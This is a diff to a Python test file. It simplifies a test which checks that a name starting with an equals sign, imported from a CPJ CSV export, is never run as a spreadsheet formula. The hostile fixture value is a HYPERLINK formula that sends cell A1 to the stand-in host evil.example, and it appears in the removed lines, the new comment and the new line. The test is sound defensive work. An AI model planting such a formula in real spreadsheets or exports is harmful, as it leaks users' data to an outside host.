@@ -197,10 +197,8 @@ def test_the_spreadsheet_csv_has_a_byte_order_mark_and_the_api_csv_none(client, 
 def test_a_name_beginning_with_equals_imported_from_cpj_never_runs_as_a_formula(client, tmp_path, editor):
     sample = (Path(__file__).parent / "data" / "cpj-export-sample.csv").read_text(encoding="utf-8")
     header, first, *_rest = sample.splitlines()
-    hostile = first.replace("Arin Example", '=HYPERLINK("http://evil.example/?"&A1;"Arin")', 1)
-    hostile = hostile.replace(
-        '=HYPERLINK("http://evil.example/?"&A1;"Arin")', '"=HYPERLINK(""http://evil.example/?""&A1;""Arin"")"'
-    )
+    # A cell of CPJ's file, quoted as CSV: =HYPERLINK("http://evil.example/?"&A1;"Arin")
+    hostile = first.replace("Arin Example", '"=HYPERLINK(""http://evil.example/?""&A1;""Arin"")"', 1)
     path = tmp_path / "cpj.csv"
     path.write_text(f"{header}\n{hostile}\n", encoding="utf-8")
     call_command("import_cpj", str(path), "--publish", "--by", "editor", stdout=io.StringIO())
